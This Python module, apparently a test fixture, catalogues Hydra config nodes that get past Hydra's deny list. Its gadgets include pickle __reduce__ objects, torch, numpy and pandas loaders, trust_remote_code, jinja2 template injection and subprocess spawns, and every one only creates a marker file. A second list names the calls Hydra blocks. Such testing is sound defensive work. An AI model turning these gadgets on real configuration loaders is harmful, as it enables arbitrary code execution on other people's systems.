"""Names that run code, or write files, when a config may have them called; each leaves a file behind that tells.

Hydra's own list refuses some hundred names; these are not on it.
"""

import json
import pickle
from pathlib import Path
from typing import Any

import dill
import joblib
import numpy as np
import torch

Node = dict[str, Any]


class Touch:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return Path.touch, (self.marker,)


def node(target: str, *args: Any, **settings: Any) -> Node:
    return {"_target_": target, **({"_args_": list(args)} if args else {}), **settings}


def payloads(folder: Path, marker: Path) -> dict[str, Node]:
    """Nodes that make `marker`, and the files in `folder` that they need."""
    code, shell, touch = f"open({str(marker)!r}, 'w').close()", f"touch {marker}", ["touch", str(marker)]
    pickled = pickle.dumps(Touch(marker))
    for name in ("evil.pkl", "evil.npy"):
        (folder / name).write_bytes(pickled)
    for name in ("evil.py", "hubconf.py", "evil_module.py", "test_evil.py"):
        (folder / name).write_text(f"{code}\nthing = print\n")
    (folder / "evil.pth").write_text(f"import os; {code}")
    (folder / "config.json").write_text(json.dumps({"auto_map": {"AutoConfig": "evil_remote.Config"}}))
    (folder / "evil_remote.py").write_text(
        f"{code}\nfrom transformers import PreTrainedConfig\nclass Config(PreTrainedConfig): model_type = 'evil'\n"
    )
    joblib.dump(Touch(marker), folder / "evil.joblib")
    torch.save(Touch(marker), folder / "evil.pt")
    np.save(folder / "real.npy", np.array([Touch(marker)], dtype=object), allow_pickle=True)
    np.save(folder / "plain.npy", np.zeros(1))
    place, place_of = str(folder), {path.name: str(path) for path in folder.iterdir()}
    evil, new, system = place_of["evil.py"], str(marker), f"__import__('os').system({shell!r})"
    return {
        # pickles
        "joblib": node("joblib.load", filename=place_of["evil.joblib"]),
        "joblib-inner": node("joblib.numpy_pickle.load", place_of["evil.joblib"]),
        "pandas": node("pandas.read_pickle", filepath_or_buffer=place_of["evil.pkl"]),
        "pandas-inner": node("pandas.io.pickle.read_pickle", place_of["evil.pkl"]),
        "pandas-compat": node("pandas.compat.pickle_compat.loads", pickled),
        "torch": node("torch.load", f=place_of["evil.pt"], weights_only=False),
        "torch-inner": node("torch.serialization.load", place_of["evil.pt"], weights_only=False),
        "torch-url": node("torch.hub.load_state_dict_from_url", f"file://{place_of['evil.pt']}", f"{place}/hub"),
        "torch-zoo": node("torch.utils.model_zoo.load_url", f"file://{place_of['evil.pt']}", f"{place}/zoo"),
        "torch-config": node(
            "torch.utils._config_module.ConfigModule.load_config",
            node("hydra.utils.get_object", "torch.fx.config"),
            pickled,
        ),
        "numpy": node("numpy.load", file=place_of["evil.npy"], allow_pickle=True),
        "numpy-inner": node("numpy.lib._npyio_impl.load", place_of["evil.npy"], allow_pickle=True),
        "numpy-array": node(
            "numpy.lib.format.read_array", node("builtins.open", place_of["real.npy"], "rb"), allow_pickle=True
        ),
        "lightning": node("lightning.fabric.utilities.cloud_io._load", place_of["evil.pt"], weights_only=False),
        "lightning-module": node(
            "lightning.pytorch.LightningModule.load_from_checkpoint", place_of["evil.pt"], weights_only=False
        ),
        "transformers": node("transformers.modeling_utils.load_state_dict", place_of["evil.pt"], weights_only=False),
        # modules and scripts
        "module": node("evil_module.thing"),
        "get_method": node("hydra.utils.get_method", "evil_module.thing"),
        "get_class": node("hydra.utils.get_class", "evil_module.thing"),
        "get_object": node("hydra.utils.get_object", "evil_module.thing"),
        "call": node("hydra.utils.call", node("evil_module.thing"), _recursive_=False),
        "omegaconf": node("omegaconf._utils._get_class", "evil_module.thing"),
        "pkgutil": node("pkgutil.resolve_name", "evil_module:thing"),
        "pydantic": node("pydantic._internal._validators.import_string", "evil_module.thing"),
        "werkzeug": node("werkzeug.utils.import_string", "evil_module"),
        "torch-import": node("torch._utils._import_dotted_name", "evil_module.thing"),
        "dill-import": node("dill._dill._import_module", "evil_module.thing"),
        "sax": node("xml.sax.make_parser", ["evil_module"]),
        "matplotlib": node("matplotlib.use", "module://evil_module", force=True),
        "lightning-import": node("lightning_utilities.core.imports.compare_version", "evil_module", "x", "1"),
        "unittest": node("unittest.defaultTestLoader.loadTestsFromName", "evil_module"),
        "discover": node("unittest.TestLoader.discover", node("unittest.TestLoader"), place, "evil_*.py"),
        "site": node("site.addsitedir", place),
        "setup": node("setuptools._distutils.core.run_setup", evil),
        "torch.hub": node("torch.hub.load", place, "thing", source="local"),
        "torch.hub-inner": node("torch.hub._import_module", "x", evil),
        "transformers-remote": node("transformers.AutoConfig.from_pretrained", place, trust_remote_code=True),
        "transformers-module": node("transformers.dynamic_module_utils.get_class_in_module", "thing", evil),
        # source
        "inductor": node("torch._inductor.codecache.PyCodeCache.load", code),
        "fx": node("torch.fx.graph_module._exec_with_source", code, {}),
        "attrs": node("attr._make._linecache_and_compile", code, "x", {}),
        "sympy": node("sympy.sympify", system),
        "jinja2": node(
            "jinja2.Template.render",
            node("jinja2.Template", "{{ cycler.__init__.__globals__.os.system('" + shell + "') }}"),
        ),
        # programs
        "asyncio": node("asyncio.run", node("asyncio.create_subprocess_shell", shell)),
        "distutils": node("setuptools._distutils.spawn.spawn", touch),
        "webbrowser": node("webbrowser.GenericBrowser.open", node("webbrowser.GenericBrowser", ["touch", "%s"]), new),
        "multiprocessing": node("multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", touch, []),
        "collect_env": node("torch.utils.collect_env.run", shell),
        # files elsewhere
        "open": node("builtins.open", file=new, mode="w"),
        "io": node("io.open", new, "w"),
        "codecs": node("codecs.open", new, "w"),
        "gzip": node("gzip.open", new, "wb"),
        "touch": node("pathlib.Path.touch", node("pathlib.Path", new)),
        "copy": node("shutil.copy", evil, new),
        "symlink": node("os.symlink", evil, new),
        "makedirs": node("os.makedirs", new),
        "torch.save": node("torch.save", 1, new),
        "savetxt": node("numpy.savetxt", new, [1.0]),
        "sqlite": node("sqlite3.connect", new),
        "logging": node("logging.FileHandler", new),
        "urlretrieve": node("urllib.request.urlretrieve", f"file://{evil}", new),
    }


def blocked(folder: Path, marker: Path) -> dict[str, Node]:
    """The names that Hydra's own list refuses, in the release that this was written for."""
    code, shell = f"open({str(marker)!r}, 'w').close()", f"touch {marker}"
    return {
        "eval": node("builtins.eval", code),
        "exec": node("builtins.exec", code),
        "import": node("importlib.import_module", "evil_module"),
        "pydoc": node("pydoc.locate", "evil_module"),
        "runpy": node("runpy.run_path", path_name=str(folder / "evil.py")),
        "system": node("os.system", shell),
        "shutil.os": node("shutil.os.system", shell),
        "pathlib.os": node("pathlib.os.system", shell),
        "Popen": node("subprocess.Popen", shell, shell=True),
        "run": node("subprocess.run", shell, shell=True),
        "call": node("subprocess.call", shell, shell=True),
        "timeit": node("timeit.timeit", code, number=1),
        "pickle.load": node("pickle.load", node("builtins.open", str(folder / "evil.pkl"), "rb")),
        "pickle.loads": node("pickle.loads", pickle.dumps(Touch(marker))),
        "dill": node("dill.loads", dill.dumps(Touch(marker))),
        "shelve": node("operator.getitem", node("shelve.open", str(folder / "shelf")), "x"),
        "marshal": node("marshal.loads", b""),
        "yaml": node("yaml.unsafe_load", f"!!python/object/apply:os.system ['{shell}']"),
        "partial": node("functools.partial", node("hydra.utils.get_method", "os.system"), shell),
        "reduce": node("functools.reduce", node("hydra.utils.get_method", "runpy.run_path"), [str(folder / "evil.py")]),
        "instantiate": node("hydra.utils.instantiate", node("os.system", shell)),
        "ctypes": node("ctypes.CDLL", str(folder / "evil.so")),
        "console": node("code.InteractiveConsole.push", node("code.InteractiveConsole"), code),
        "dictConfig": node("logging.config.dictConfig", {"version": 1, "formatters": {"x": {"()": "os.system"}}}),
        "inline": node("torch.utils.cpp_extension.load_inline", "x", "", functions=[]),
        "pipeline": node("transformers.pipeline", model=str(folder), trust_remote_code=True),
    }
